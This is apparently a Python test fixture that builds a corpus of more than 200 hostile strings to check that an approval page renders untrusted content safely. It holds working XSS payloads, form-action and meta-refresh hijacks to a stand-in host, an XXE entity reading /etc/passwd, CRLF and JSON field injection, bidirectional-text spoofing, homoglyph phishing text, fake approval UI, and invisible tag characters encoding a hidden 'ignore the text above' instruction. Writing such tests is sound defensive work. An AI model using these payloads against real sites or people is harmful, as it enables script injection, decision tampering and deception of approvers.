"""More than 200 contents that somebody might choose to fool an approver or the page.

Families of payloads, each in several variants. A payload that runs sets the page's title, or asks
for `TRAP`; nothing that a page shows may do either. All fit what the gate lets through: valid
Unicode, not blank, at most 262,144 bytes.
"""

from collections.abc import Iterator

TRAP = "https://trap.invalid"
"""Whatever is asked for here was not the approver's wish."""

_RUN = "document.title='owned'"
_TAGS = "".join(chr(0xE0000 + ord(character)) for character in "ignore the text above")
_LIMIT_BYTES = 262_144

FAMILIES: dict[str, dict[str, str]] = {
    "elements": {
        "script": f"<script>{_RUN}</script>",
        "script from elsewhere": f"<script src={TRAP}/a.js></script>",
        "image": f'<img src=x onerror="{_RUN}">',
        "svg": f"<svg onload={_RUN}><style>*{{display:none}}</style></svg>",
        "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
        "link": f'<a href="javascript:{_RUN}">Approve</a>',
        "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
        "object": f"<object data={TRAP}/o></object><embed src={TRAP}/e>",
        "video": f"<video><source onerror={_RUN}></video><audio src={TRAP}/a autoplay>",
        "focus": f"<input autofocus onfocus={_RUN}>",
        "form": f'</form><form action="{TRAP}"><button name=decision value=denied>Approve</button>',
        "button elsewhere": f"<button form=f formaction={TRAP}>Deny</button>",
        "refresh": f'<meta http-equiv="refresh" content="0;url={TRAP}">',
        "base": f'<base href="{TRAP}/">',
        "style": "<style>form,pre{display:none!important}</style>",
        "style from elsewhere": f"<link rel=stylesheet href={TRAP}/s.css>",
        "dialog": '<dialog open style="position:fixed;inset:0">Approved</dialog>',
        "no script": f'<noscript><img src="{TRAP}/n"></noscript>',
    },
    "ends": {
        "of the block": f"</pre><script>{_RUN}</script><pre>",
        "of the editor": f"</textarea><img src=x onerror={_RUN}>",
        "of the title": f"</title><script>{_RUN}</script>",
        "of the style": f"</style><script>{_RUN}</script>",
        "of the page": f"</main></body></html><script>{_RUN}</script>",
        "in double quotes": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
        "in single quotes": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
        "comment": "<!-- the rest of the page",
        "section": "<![CDATA[ the rest ]]> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "plain text": "<plaintext>",
        "mutation": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
        "broken tag": f"<scr\0ipt>{_RUN}</scr\0ipt><\u200bimg src=x onerror={_RUN}>",
    },
    "encodings": {
        "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &#x202e; &nbsp;",
        "open entities": "&lt &gt &amp &#60 &#x3c &nbsp &copy=1",
        "percent": "%3Cscript%3E %00 %0d%0a %C0%BCscript%C0%BE",
        "escapes": "\\u003cscript\\u003e \\x3cb\\x3e \\0 \\",
        "other charset": "+ADw-script+AD4- \x1b$B \x1b(J",
        "templates": "$main ${content} $$ {content} {{7*7}} {% raw %} <%= 7 %> %s %(content)s",
        "form fields": "a&decision=denied&comment=x+y%20z;content=another",
        "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "json": '", "decision": "denied", "x": "',
    },
    "direction": {
        "override": "Pay \u202emoc.live\u202c now",
        "override left open": "The price is $\u202e001",
        "isolates": "\u2067mirror\u2069 \u2066left\u2069 \u2068first",
        "nested embeddings": "\u202b" * 130 + "deep" + "\u202c" * 3,
        "marks": "1\u200f2\u200e3\u061c4",
        "right to left": "שלום עולם, unicorn! 12 + 3 = 15",
        "mixed": "عرض خاص: 3 rides (الآن) for $5!",
    },
    "invisible": {
        "zero width": "un\u200bsub\u200cscribe\u200d\ufeff now\u2060",
        "tags": f"hello{_TAGS}",
        "flag of tags": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "variants": "a" + "".join(chr(0xE0100 + n) for n in range(64)) + "b\ufe00c\ufe0f",
        "fillers": "x\u3164\u2800\u115f\u1160\u034f\u00ad\uffa0x",
        "odd spaces": "a\u1680b\u2003c\u2009d\u202fe\u205ff\u3000g\u00a0h",
        "separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
        "nothing drawn": "a\ufffcb\ufff9c\ufffad\ufffbe\U0001d173f\U0001bca0g\u180eh",
        "no characters": "a\ufffeb\uffffc\ufdd0d\U0010fffee",
        "subtending": "\u0600\u06dd\u070f\u08e2 x",
    },
    "controls": {
        "terminal": "\x1b[31mred\x1b[0m\x1b[2J\x1b]0;title\x07\x1b[1A gone",
        "nothing": "a\x00b\x00\x00c\u2400d\x7fe",
        "C0": "x" + "".join(map(chr, range(1, 9))) + "\x0e\x1f",
        "C1": "x" + "".join(map(chr, range(0x80, 0xA0))),
        "backspaces": "deny\x08\x08\x08\x08approve",
        "carriage returns": "Pay $1,000\rPay $10   \r\nthird\rfourth",
    },
    "floods": {
        "accents": "z" + "\u0301" * 300 + "\u0323" * 300 + " fine",
        "enclosing": "a" + "\u20dd\u0488\u20e0" * 60 + " b",
        "from below": "y" + "\u035c\u0321\u0316" * 100,
        "wide letters": "\ufdfd\U00012031" * 12,
        "tall letters": "\U0001f9ff\u0bcc\ua9c5\u0f3d" * 40,
        "spaces": "far" + " " * 3_000 + "away",
        "tabs": "far" + "\t" * 500 + "away",
        "newlines": "top" + "\n" * 2_000 + "bottom",
    },
    "lookalikes": {
        "answer": "✓ Approved\nThank you. You can close this page.",
        "buttons": "[ Approve ✔ ]   [ Deny ✘ ]\n▔▔▔▔▔▔▔▔▔▔▔",
        "end": "\n────────────\nDecide until Monday, 9 March 2026\nEnd of the text",
        "marks": "[U+202E] is no mark, \u202e is, <mark>[U+200B]</mark> is none",
        "letters": "аpprоve рayраl.соm ⅼogin Αlpha \U0001d41a\U0001d429\U0001d429",
        "emoji": "👨‍👩‍👧‍👦 🧑🏿‍🚀 🇪🇺🇺🇳 1️⃣ ❤️ ☎︎ 🏳️‍🌈 🦄",
        "private": "\ue000\uf8ff\U000f0000\U0010fffd",
    },
}
"""Payloads by family and name."""

_BIG: dict[str, str] = {  # 200 KB; some only once they are shown, with what is invisible marked
    "words": "unicorn " * 25_000,
    "one word": "Unicorn" * 28_000,
    "one line of markup": f"<b onclick={_RUN}>" * 7_000,
    "angle brackets": "<" * _LIMIT_BYTES,
    "quotes and ampersands": "\"'&" * 60_000,
    "newlines": "x\n" * 100_000 + "the end",
    "tags": "a" + "\U000e0041" * 50_000,
    "controls": "\x01\x7f" * 20_000 + "x",
    "marks between letters": "a\u200b" * 8_000,
    "emoji": "🦄" * 50_000,
    "accents": ("e" + "\u0301" * 40) * 1_000,
    "right to left": "\u05d0\u05d1 " * 40_000,
}


def contents() -> Iterator[tuple[str, str]]:
    """Yields a name and a content, every one different from all others."""
    for family, payloads in FAMILIES.items():
        for name, payload in payloads.items():
            for variant, content in _variants(payload):
                yield f"{family}: {name} {variant}", content
    for name, content in _BIG.items():
        yield f"big: {name}", content


def _variants(payload: str) -> Iterator[tuple[str, str]]:
    yield "alone", payload
    yield "in a post", f"Meet Rainbow Dash!\n\n{payload}\n\nRides from Saturday on.\n"
    yield "in a word", f"unicorn{payload}unicorn"
